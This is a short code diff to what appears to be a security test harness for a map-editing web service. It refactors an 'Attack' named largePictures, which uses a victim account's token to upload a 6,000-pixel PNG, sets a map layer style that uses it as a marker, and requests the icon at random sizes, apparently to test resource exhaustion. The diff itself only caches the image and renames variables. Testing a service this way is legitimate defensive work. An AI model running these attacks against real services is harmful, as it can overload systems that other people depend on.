@@ -1,5 +1,5 @@
 import { crc32, deflateSync } from "node:zlib";
-import { type Attack, again, send } from "./attack.js";
+import { type Attack, again, once, send } from "./attack.js";
 
 /** What an editor of another project can do. */
 
@@ -24,6 +24,7 @@ const explosiveStyles: Attack = {
 };
 
 const pictureSide = 6_000;
+const picture = once(() => png(pictureSide));
 
 /** Small symbols of a large picture, each of another size. */
 const largePictures: Attack = {
@@ -32,9 +33,9 @@ const largePictures: Attack = {
   run: async (at) => {
     const { own } = at.victim;
     const { token } = own;
-    const picture = `${own.project}pictures/large.png`;
+    const path = `${own.project}pictures/large.png`;
     const headers = { "content-type": "image/png" };
-    await send(at, picture, { method: "PUT", token, headers, body: png(pictureSide) });
+    await send(at, path, { method: "PUT", token, headers, body: picture() });
     await send(at, `${own.map}layers/p/`, {
       method: "PATCH",
       token,
@@ -42,8 +43,8 @@ const largePictures: Attack = {
       body: JSON.stringify({ parent_id: 0, css_style: "#p { marker-file: url(large.png); }" }),
     });
     await again(at, async () => {
-      const path = `${own.map}layers/p/icon/?size=${at.random.whole(1, 1024)}`;
-      return (await send(at, path)).status === 200;
+      const icon = `${own.map}layers/p/icon/?size=${at.random.whole(1, 1024)}`;
+      return (await send(at, icon)).status === 200;
     });
   },
 };
